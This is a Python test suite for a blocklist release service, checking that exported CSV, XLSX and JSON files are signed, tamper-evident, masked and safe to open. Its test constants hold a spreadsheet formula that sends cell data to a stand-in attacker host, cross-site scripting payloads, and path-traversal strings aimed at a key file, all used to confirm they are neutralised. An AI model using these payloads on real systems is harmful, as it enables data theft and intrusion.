"""Releases as those who get them see them: opened, checked, signed; and what becomes of a damaged one."""

import base64
import csv
import io
import json
from datetime import timedelta
from hashlib import sha256
from typing import Any

import openpyxl
import pytest
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from sqlalchemy import select, text
from sqlalchemy.exc import DatabaseError

from models.audit import AuditEvent
from models.blocklist import BlocklistEntry
from models.enums import ContactKind, EntryState, Purpose
from models.errors import ForbiddenTransition
from review_api.blocklist import files, names
from review_api.blocklist.listing import ListingRules, ProtectedList
from review_api.blocklist.releases import (
    EntryNotReleasable,
    GrowthNotAcknowledged,
    NothingNew,
    ReleaseDamaged,
)
from review_api.blocklist.schemas import ReleaseRow
from review_api.errors import Forbidden
from review_api.jobs import expire_entries
from review_api.tasks.errors import ReasonMissing
from tests.review_api.acts import list_address
from tests.review_api.conftest import People, Room

LIFT_REASON = "Владелец удалил объявление."
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"нажмите")'
XSS = '<script>alert(1)</script>{{7*7}}"><img src=x onerror=alert(1)>'


def release(room: Room, people: People, **values: Any) -> ReleaseRow:
    return room.services.releases.make_release(people.officer.actor, now=room.clock(), **values)


def add(room: Room, people: People, **values: Any) -> int:
    return list_address(room, people.analyst, people.approver, **values).entry_id


def lift(room: Room, people: People, entry_id: int) -> None:
    with room.db.write() as session:
        room.services.blocklist.lift(session, people.officer, entry_id, LIFT_REASON, now=room.clock())


def folder(room: Room, number: int) -> Any:
    return room.settings.releases_dir / names.folder_name(number)


def body(room: Room, number: int, kind: str) -> bytes:
    content: bytes = (folder(room, number) / names.file_name(number, kind)).read_bytes()
    return content


def damages(room: Room) -> set[tuple[int, str]]:
    with room.db.read() as session:
        return {(d.number, d.file) for d in room.services.releases.verify_releases(session)}


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(content: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
    assert not any(
        cell.data_type == "n" and cell.value is not None for row in sheet.iter_rows() for cell in row
    )
    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]


def test_the_three_files_say_the_same(room: Room, people: People) -> None:
    entries = [add(room, people, title=f"Хабарландыру {n}") for n in range(3)]
    made = release(room, people)
    assert (made.number, made.n_entries, made.n_added, made.n_removed) == (1, 3, 3, 0)
    table = read_csv(body(room, 1, "csv"))
    assert table == read_xlsx(body(room, 1, "xlsx"))
    assert table[0] == files.headings()
    assert "Мекенжайы (URL) / Адрес (URL)" in table[0]
    document = json.loads(body(room, 1, "json"))
    urls = table[0].index("Мекенжайы (URL) / Адрес (URL)")
    assert [row[urls] for row in table[1:]] == [line["url"] for line in document["entries"]]
    assert [line["entry_id"] for line in document["entries"]] == entries == document["added"]
    assert document["entries"][0]["confirmed_at"] == "2026-11-21T09:00:00+00:00"
    found = table[0].index("Расталған уақыты / Подтверждено")
    assert table[1][found] == "21.11.2026 14:00 (UTC+5)"


def test_contacts_leave_masked(sqlite_room: Room, sqlite_people: People) -> None:
    add(
        sqlite_room,
        sqlite_people,
        title="Звоните +7 701 234 56 78",
        text="WhatsApp: 8 (701) 234-56-78, t.me/qyz_kerek",
        contacts=((ContactKind.LINK, "t.me/qyz_kerek"),),
    )
    release(sqlite_room, sqlite_people)
    for kind in ("csv", "json"):
        content = body(sqlite_room, 1, kind).decode()
        assert "234" not in content
        assert "qyz_kerek" not in content
    assert not any("234" in str(cell) for row in read_xlsx(body(sqlite_room, 1, "xlsx")) for cell in row)


def test_the_signature_holds_for_whoever_has_the_public_key(room: Room, people: People) -> None:
    add(room, people)
    made = release(room, people)
    manifest = (folder(room, 1) / "manifest.json").read_bytes()
    signature = base64.b64decode((folder(room, 1) / "manifest.sig").read_bytes())
    key = Ed25519PublicKey.from_public_bytes(base64.b64decode(made.public_key))
    key.verify(signature, manifest)
    with pytest.raises(InvalidSignature):
        key.verify(signature, manifest.replace(b'"number":1', b'"number":2'))
    facts = json.loads(manifest)
    assert facts["files"] == {
        name: sha256((folder(room, 1) / name).read_bytes()).hexdigest() for name in facts["files"]
    }
    assert set(facts["files"]) == {names.file_name(1, kind) for kind in names.FORMATS}
    with room.db.read() as session:
        head = session.get_one(AuditEvent, facts["audit_head"]["seq"])
        assert head.mac == facts["audit_head"]["mac"]
    assert damages(room) == set()
    assert (room.settings.keys_dir / "release-signing.key").stat().st_mode & 0o777 == 0o600


def test_the_same_state_makes_no_new_release(room: Room, people: People) -> None:
    with pytest.raises(NothingNew):
        release(room, people)
    entry_id = add(room, people)
    assert release(room, people).number == 1
    room.clock.forward(hours=5)
    with pytest.raises(NothingNew):
        release(room, people)
    add(room, people)
    lift(room, people, entry_id)
    second = release(room, people)
    assert (second.number, second.n_entries, second.n_added, second.n_removed) == (2, 1, 1, 1)
    document = json.loads(body(room, 2, "json"))
    assert [(gone["entry_id"], gone["state"]) for gone in document["removed"]] == [(entry_id, "lifted")]
    with room.db.read() as session:
        detail = room.services.releases.get_release(session, 2)
        assert [entry.id for entry in detail.removed] == [entry_id]
        assert (len(detail.added), detail.n_kept) == (1, 0)
    assert damages(room) == set()


def test_a_list_may_become_empty(sqlite_room: Room, sqlite_people: People) -> None:
    entry_id = add(sqlite_room, sqlite_people)
    release(sqlite_room, sqlite_people)
    lift(sqlite_room, sqlite_people, entry_id)
    assert release(sqlite_room, sqlite_people).n_entries == 0
    assert damages(sqlite_room) == set()


def test_entries_expire_without_being_lifted(room: Room, people: People) -> None:
    entry_id = add(room, people)
    release(room, people)
    room.clock.forward(days=room.settings.entry_days)
    with room.db.read() as session:
        assert room.services.releases.preview(session, now=room.clock()).n_entries == 0
    assert expire_entries(room.db, room.audit, now=room.clock()).n_done == 1
    assert expire_entries(room.db, room.audit, now=room.clock()).n_done == 0
    with room.db.read() as session:
        assert session.get_one(BlocklistEntry, entry_id).state is EntryState.EXPIRED
    assert json.loads(body(room, release(room, people).number, "json"))["removed"][0]["state"] == "expired"


@pytest.mark.parametrize(
    "name", [*(names.file_name(1, kind) for kind in names.FORMATS), *names.file_names(1)[3:]]
)
@pytest.mark.parametrize("damage", ["flip", "cut", "remove"])
def test_every_damaged_file_is_named(
    sqlite_room: Room, sqlite_people: People, name: str, damage: str
) -> None:
    add(sqlite_room, sqlite_people)
    release(sqlite_room, sqlite_people)
    path = folder(sqlite_room, 1) / name
    content = bytearray(path.read_bytes())
    if damage == "remove":
        path.unlink()
    else:
        content[len(content) // 2] ^= 1
        path.write_bytes(content[:-1] if damage == "cut" else content)
    assert damages(sqlite_room) == {(1, name)}
    with pytest.raises(ReleaseDamaged), sqlite_room.db.write() as session:
        sqlite_room.services.releases.read_file(
            session, sqlite_people.officer, 1, names.file_name(1, "csv"), now=sqlite_room.clock()
        )


def test_a_consistent_rewrite_is_found(sqlite_room: Room, sqlite_people: People) -> None:
    add(sqlite_room, sqlite_people)
    release(sqlite_room, sqlite_people)
    path = folder(sqlite_room, 1) / names.file_name(1, "json")
    path.write_bytes(path.read_bytes().replace(b"https://", b"http://"))
    with sqlite_room.db.write() as session:
        session.execute(text("DROP TRIGGER blocklist_release_no_update"))
        session.execute(
            text("UPDATE blocklist_release SET json_sha256 = :hash"),
            {"hash": sha256(path.read_bytes()).hexdigest()},
        )
    assert (1, "row") in damages(sqlite_room)
    assert (1, names.file_name(1, "json")) in damages(sqlite_room)


def test_a_strangers_folder_and_a_gap_are_found(sqlite_room: Room, sqlite_people: People) -> None:
    add(sqlite_room, sqlite_people)
    release(sqlite_room, sqlite_people)
    (folder(sqlite_room, 1) / "extra.txt").write_text("?")
    folder(sqlite_room, 2).mkdir()
    assert damages(sqlite_room) == {(1, "extra.txt"), (2, "000002")}


def test_the_database_refuses_to_change_a_release(room: Room, people: People) -> None:
    add(room, people)
    release(room, people)
    for statement in (
        "UPDATE blocklist_release SET n_entries = 2",
        "DELETE FROM blocklist_release",
        "UPDATE release_line SET position = 2",
        "DELETE FROM release_line",
    ):
        with pytest.raises(DatabaseError, match="append-only"), room.db.write() as session:
            session.execute(text(statement))


def test_the_protected_list_is_asked_again(sqlite_room: Room, sqlite_people: People) -> None:
    room = sqlite_room
    entry_id = add(room, sqlite_people, url="https://baraholka.example.kz/ads/1")
    room.services.releases._listing = ListingRules(ProtectedList({"example.kz": "help"}, {}))
    with room.db.read() as session:
        held = room.services.releases.preview(session, now=room.clock()).held
    assert [(line.entry.id, line.code) for line in held] == [(entry_id, "ProtectedAddress")]
    with pytest.raises(EntryNotReleasable) as refused:
        release(room, sqlite_people)
    assert refused.value.context["entry_id"] == entry_id
    lift(room, sqlite_people, entry_id)
    with pytest.raises(NothingNew):
        release(room, sqlite_people)


def test_fast_growth_needs_a_written_reason(sqlite_room: Room, sqlite_people: People) -> None:
    for _ in range(21):
        add(sqlite_room, sqlite_people)
    with sqlite_room.db.read() as session:
        assert sqlite_room.services.releases.preview(session, now=sqlite_room.clock()).needs_acknowledgement
    for reason in (None, "", "ok"):
        with pytest.raises(GrowthNotAcknowledged):
            release(sqlite_room, sqlite_people, acknowledge_growth=reason)
    made = release(sqlite_room, sqlite_people, acknowledge_growth="Первый выпуск после проверки всех дел.")
    assert made.n_added == 21


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", "＝", " =", "\u00a0="])
def test_no_cell_starts_a_formula(start: str) -> None:
    assert files.safe_cell(f"{start}1+1").startswith("'")


@pytest.mark.parametrize("value", ["", "Требуется", "10 000", "https://example.kz/=1", "«=»", "a=b"])
def test_harmless_cells_stay_as_they_are(value: str) -> None:
    assert files.safe_cell(value) == value


def test_cells_that_a_spreadsheet_cannot_hold() -> None:
    assert files.safe_cell("a\x00b\x1bc\ud800d") == "a\ufffdb\ufffdc\ufffdd"
    assert len(files.safe_cell("=" * 40_000)) == 32_767


def test_hostile_ads_leave_as_text(sqlite_room: Room, sqlite_people: People) -> None:
    title, body_text = f"{FORMULA};\r\n{XSS}", f'"{FORMULA}\n\x07\x1b {XSS}'
    add(sqlite_room, sqlite_people, title=title, text=body_text)
    release(sqlite_room, sqlite_people)
    table = read_csv(body(sqlite_room, 1, "csv"))
    assert len(table) == 2
    assert len(table[1]) == len(table[0])
    assert table[1][2] == f"'{title}"
    assert not any(cell[:1] in "=+-@\t\r" for cell in table[1] if cell)
    assert read_xlsx(body(sqlite_room, 1, "xlsx"))[1][2].startswith("'=HYPERLINK")
    line = json.loads(body(sqlite_room, 1, "json"))["entries"][0]
    assert line["title"] is None
    assert line["quote"] is None
    assert line["refused"] == ["title", "quote"]


def test_downloads_come_as_attachments_and_are_recorded(sqlite_room: Room, sqlite_people: People) -> None:
    add(sqlite_room, sqlite_people, title=XSS)
    client = sqlite_room.client("officer")
    assert client.post("/api/v1/releases", {}).status_code == 201
    for kind, media in (("csv", "text/csv"), ("json", "application/json"), ("xlsx", "application/vnd.")):
        answer = client.get(f"/api/v1/releases/1/files/{names.file_name(1, kind)}")
        assert answer.content == body(sqlite_room, 1, kind)
        assert answer.headers["content-type"].startswith(media)
        assert answer.headers["content-disposition"].startswith("attachment; filename*=UTF-8''saqshy-")
        assert answer.headers["x-content-type-options"] == "nosniff"
    for name in ("../../keys/audit.key", "..%2f..%2fkeys%2faudit.key", "manifest.json%00", "x"):
        assert client.get(f"/api/v1/releases/1/files/{name}").status_code == 404
    with sqlite_room.db.read() as session:
        actions = [e.action.value for e in session.scalars(select(AuditEvent))]
    assert actions.count("release.downloaded") == 3


def test_one_person_lifts_with_a_reason(sqlite_room: Room, sqlite_people: People) -> None:
    entry_id = add(sqlite_room, sqlite_people, scores={Purpose.FORCED_LABOUR: 0.8})
    blocklist, now = sqlite_room.services.blocklist, sqlite_room.clock()
    with pytest.raises(Forbidden), sqlite_room.db.write() as session:
        blocklist.lift(session, sqlite_people.analyst, entry_id, LIFT_REASON, now=now)
    with pytest.raises(ReasonMissing), sqlite_room.db.write() as session:
        blocklist.lift(session, sqlite_people.officer, entry_id, "  ", now=now)
    lift(sqlite_room, sqlite_people, entry_id)
    with sqlite_room.db.read() as session:
        row = blocklist.get_entry(session, entry_id)
    assert (row.state, row.lifted_by, row.lift_reason) == (EntryState.LIFTED, "Officer", LIFT_REASON)
    assert row.expires_at - row.created_at == timedelta(days=sqlite_room.settings.entry_days)
    with pytest.raises(ForbiddenTransition):
        lift(sqlite_room, sqlite_people, entry_id)
